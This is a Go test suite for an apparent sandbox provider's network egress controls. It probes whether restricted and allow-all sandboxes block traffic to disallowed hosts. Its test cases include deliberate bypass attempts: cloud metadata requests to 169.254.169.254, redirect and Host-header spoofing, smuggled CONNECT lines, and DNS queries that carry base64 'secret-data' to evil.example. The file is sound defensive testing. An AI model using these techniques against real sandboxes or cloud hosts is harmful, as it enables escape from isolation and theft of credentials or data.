//go:build linux

package egresstest

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/netip"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/sandjet/sandjet/providers"
	"github.com/sandjet/sandjet/schemas"
)

// Sandboxes is a provider under test whose relays connect to a world.
type Sandboxes struct {
	World    *World
	Provider providers.Provider
	// Command is a command of a spec that has a workspace to write to as its first mount.
	Command func(script string) providers.Command
	// Kept has the suite try everything in a sandbox that is kept. Else each attempt has one of its own.
	Kept bool
}

// Furnish makes a world with the servers that the suite needs: the web server web.example; git.example, which greets connections to port
// 22, as 93.184.217.7:9000 does; evil.example, which only some modes reach; and names that resolve to forbidden addresses.
func Furnish(tb testing.TB) *World {
	tb.Helper()
	w := New(tb)
	hello := http.HandlerFunc(func(rw http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/elsewhere" {
			http.Redirect(rw, r, "http://169.254.169.254/latest", http.StatusFound)
			return
		}
		_, _ = fmt.Fprintf(rw, "hello to %s", r.Host) //nolint:gosec // plain text for a test
	})
	w.Web("web.example", "93.184.216.34", false, hello)
	w.Web("web.example", "93.184.216.34", true, hello)
	w.Name("git.example", "93.184.216.36")
	w.Name("evil.example", "93.184.216.99")
	w.Name("inner.example", "93.184.216.34", "10.0.0.1")
	w.Name("meta.example", "169.254.169.254")
	w.Greet("93.184.216.36:22", "93.184.217.7:9000", "93.184.216.99:443", "93.184.216.99:80")
	return w
}

// Restricted returns the network of [Sandboxes.TestRestricted].
func Restricted() schemas.Network {
	return schemas.Network{
		Mode: schemas.Restricted, AllowDomains: []string{"web.example", "git.example:22", "inner.example", "meta.example"},
		AllowCIDRs: []string{"93.184.217.0/24"}, DenyCIDRs: []string{"93.184.217.128/25"},
	}
}

// With returns a command with a network.
func (s Sandboxes) With(n schemas.Network, script string) providers.Command {
	cmd := s.Command(script)
	cmd.Network, cmd.Spec.Network, cmd.Timeout = n, n, time.Minute
	return cmd
}

// Install copies this program into the workspace.
func (s Sandboxes) Install(t *testing.T) {
	t.Helper()
	data, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		t.Fatal(err)
	}
	cmd := s.Command("cat >netprobe && chmod +x netprobe")
	cmd.Stdin = data
	if res, err := s.Provider.Run(t.Context(), cmd); err != nil || res.ExitCode != 0 {
		t.Fatalf("install the probe: %+v, %v", res, err)
	}
}

// Probe runs the probe in a sandbox of its own and returns its output, and the provider's notices about the network.
func (s Sandboxes) Probe(t *testing.T, n schemas.Network, args ...string) (said, notices string) {
	t.Helper()
	return s.ProbeIn(t, schemas.Ref{}, n, args...)
}

// ProbeIn is Probe in a persistent sandbox.
func (s Sandboxes) ProbeIn(t *testing.T, ref schemas.Ref, n schemas.Network, args ...string) (said, notices string) {
	t.Helper()
	quoted := make([]string, len(args))
	for i, a := range args {
		quoted[i] = "'" + a + "'"
	}
	cmd := s.With(n, ProbeVariable+"=1 ./netprobe "+strings.Join(quoted, " "))
	cmd.Sandbox = ref
	res, err := s.Provider.Run(t.Context(), cmd)
	if err != nil || res.ExitCode != 0 {
		t.Fatalf("%q: exit code %d, %v: %.500s", args, res.ExitCode, err, res.Stderr)
	}
	return string(res.Stdout), string(res.Stderr)
}

// place returns a sandbox that persists until the test's end, or the zero Ref unless Kept is set.
func (s Sandboxes) place(t *testing.T, n schemas.Network) schemas.Ref {
	t.Helper()
	if !s.Kept {
		return schemas.Ref{}
	}
	p, ok := providers.As[providers.Reserver](s.Provider)
	if !ok {
		t.Fatal("the provider keeps no sandboxes")
	}
	ref, err := p.Reserve(t.Context(), "egress", s.With(n, "").Spec)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		if err := p.Release(context.Background(), ref); err != nil {
			t.Error(err)
		}
	})
	return ref
}

// TestRestricted tries every way out of a sandbox that may reach only a few hosts. The world is that of [Furnish].
func (s Sandboxes) TestRestricted(t *testing.T) {
	t.Helper()
	_, port, _ := net.SplitHostPort(Greeter(t, "0.0.0.0:0"))
	n := Restricted()
	at := s.place(t, n)
	const not = "is not allowed by this sandbox's rules; allowed: web.example, git.example:22"
	for _, a := range []struct{ args, want, notice string }{
		{"get http://web.example/", "HTTP/1.1 200 hello to web.example", ""},
		{"get https://web.example/", "HTTP/2.0 200 hello to web.example", ""},
		{"get https://WEB.example./", "HTTP/2.0 200 hello to", ""},
		{"say tcp git.example:22 x", "greeting", ""},
		{"say tcp 93.184.217.7:9000 x", "greeting", ""},
		{"ask web.example 8.8.8.8:53", "[198.18.", ""},
		{"ask web.example 198.18.0.1:53", "[198.18.", ""},
		// Hosts that are not listed.
		{"get https://evil.example/", "no:", "host evil.example " + not},
		{"get http://evil.example/", "no:", "host evil.example " + not},
		{"get https://notweb.example/", "no:", not},
		{"get http://web.example.evil.example/", "no:", not},
		{"say tcp web.example:22 x", "no:", "not allowed on port 22: its rule opens 80 and 443"},
		{"say tcp git.example:443 x", "no:", "not allowed on port 443: its rule opens 22"},
		// Addresses.
		{"get http://93.184.216.34/", "no:", "address 93.184.216.34:80 " + not},
		{"get http://93.184.216.34/ web.example", "no:", "address 93.184.216.34:80 " + not},
		{"say tcp 93.184.216.99:443 x", "no:", "address 93.184.216.99:443 " + not},
		{"say tcp 93.184.217.200:9000 x", "no:", "in a network that this sandbox's rules deny"},
		{"get http://169.254.169.254/latest/meta-data", "no:", "address 169.254.169.254:80 " + not},
		{"say tcp 168.63.129.16:80 x", "no:", not},
		{"say tcp 10.0.0.1:22 x", "no:", not},
		{"say tcp 127.0.0.1:" + port + " x", "no:", ""}, // the loopback is the box's own
		{"say tcp 0.0.0.0:" + port + " x", "no:", ""},
		{"say tcp [::1]:" + port + " x", "no:", ""},
		{"say tcp [::ffff:93.184.216.34]:80 x", "no:", not},
		{"say tcp [2606:2800:220:1:248:1893:25c8:1946]:80 x", "no:", ""},
		{"say tcp [fd00:ec2::254]:80 x", "no:", ""},
		// Names that lead to closed places.
		{"get http://inner.example/", "403", "host inner.example leads to a place that is not open: address 10.0.0.1"},
		{"get https://inner.example/", "no:", "host inner.example leads to a place that is not open: address 10.0.0.1"},
		{"get http://meta.example/", "403", "metadata"},
		// The wrong name on the right connection.
		{"get http://web.example/ evil.example", "403", "a request for evil.example:80 was sent to web.example:80"},
		{"get https://web.example/ evil.example", "no:", "asks for another server"},
		{"get http://web.example/elsewhere", "no:", "address 169.254.169.254:80 " + not},
		{`say tcp web.example:443 SSH-2.0-x\n`, "no:", "is not TLS"},
		{`say tcp web.example:80 CONNECT%2010.0.0.1:22\n\n`, "400", ""},
		// Proxies that are not there, and other ways to talk.
		{"say tcp 198.18.0.1:3128 x", "no:", "belongs to no name"},
		{"say udp 93.184.216.34:443 x", "no:", ""},
		{"say udp 8.8.8.8:123 x", "no:", ""},
		{"say udp 93.184.217.7:9000 x", "no:", ""},
		{"raw", "no:", ""},
		{"packet", "no:", ""},
		// Questions for names carry nothing out.
		{"ask c2VjcmV0LWRhdGE.evil.example 8.8.8.8:53", "no:", not},
		{"text c2VjcmV0LWRhdGE.evil.example", "no:", not},
		{"text web.example", "no:", ""},
	} {
		said, notices := s.ProbeIn(t, at, n, strings.Split(a.args, " ")...)
		if !strings.Contains(said, a.want) || a.want == "no:" && strings.Contains(said, "hello") {
			t.Errorf("%s: %q, want %q", a.args, said, a.want)
		}
		if a.notice == "" && notices != "" || !strings.Contains(notices, a.notice) {
			t.Errorf("%s: the sandbox was told %q, want %q", a.args, notices, a.notice)
		}
	}
	// Programs that get a proxy by variables do not need one, and without the variables nothing is different.
	cmd := s.With(n, "env | grep -i proxy; grep ^nameserver /etc/resolv.conf")
	cmd.Sandbox = at
	res, err := s.Provider.Run(t.Context(), cmd)
	if err != nil || string(res.Stdout) != "nameserver 198.18.0.1\n" {
		t.Errorf("%q, %v", res.Stdout, err)
	}
	for _, to := range s.World.Dialled() {
		if !slices.Contains([]string{"93.184.216.34:80", "93.184.216.34:443", "93.184.216.36:22", "93.184.217.7:9000"}, to) {
			t.Errorf("%s was connected to", to)
		}
	}
	for _, name := range s.World.Lookups() {
		if !slices.Contains([]string{"web.example.", "git.example.", "inner.example.", "meta.example."}, name) {
			t.Errorf("%s was looked up outside", name)
		}
	}
}

// TestAllowAll checks that a sandbox which may reach all public addresses reaches nothing of the host and no other addresses. The world is
// that of [Furnish].
func (s Sandboxes) TestAllowAll(t *testing.T) {
	t.Helper()
	n := schemas.Network{Mode: schemas.AllowAll}
	at := s.place(t, n)
	for args, want := range map[string]string{
		"get http://web.example/":                "200 hello",
		"get https://web.example/":               "HTTP/2.0 200 hello",
		"get https://web.example/ other.example": "HTTP/2.0 200 hello to other.example", // all of it is open: nothing is looked at
		"say tcp git.example:22 x":               "greeting",
		"say tcp 93.184.217.7:9000 x":            "greeting",
		"say tcp evil.example:443 x":             "greeting",
		"say tcp 169.254.169.254:80 x":           "no:",
		"say tcp 10.0.0.1:80 x":                  "no:", // opened by the operator, for those who list it
		"say tcp 192.168.0.1:80 x":               "no:",
		"say tcp 100.64.0.1:80 x":                "no:",
		"get http://inner.example/":              "no:",
		"get http://meta.example/":               "no:",
		"say tcp missing.example:80 x":           "no:",
		"say udp 93.184.216.34:443 x":            "no:",
		"say tcp [2606:2800::1]:80 x":            "no:",
	} {
		if said, _ := s.ProbeIn(t, at, n, strings.Split(args, " ")...); !strings.Contains(said, want) {
			t.Errorf("%s: %q, want %q", args, said, want)
		}
	}
	// The host itself, by its loopback and by any other of its addresses.
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	_, port, _ := net.SplitHostPort(Greeter(t, "0.0.0.0:0"))
	for _, a := range addrs {
		ip, err := netip.ParsePrefix(a.String())
		if err != nil || !ip.Addr().Is4() {
			continue
		}
		said, _ := s.ProbeIn(t, at, n, "say", "tcp", net.JoinHostPort(ip.Addr().String(), port), "x")
		if !strings.HasPrefix(said, "no:") {
			t.Errorf("%s, an address of the host: %q", ip, said)
		}
	}
	for _, to := range s.World.Dialled() {
		if !strings.HasPrefix(to, "93.184.21") {
			t.Errorf("%s was connected to", to)
		}
	}
}
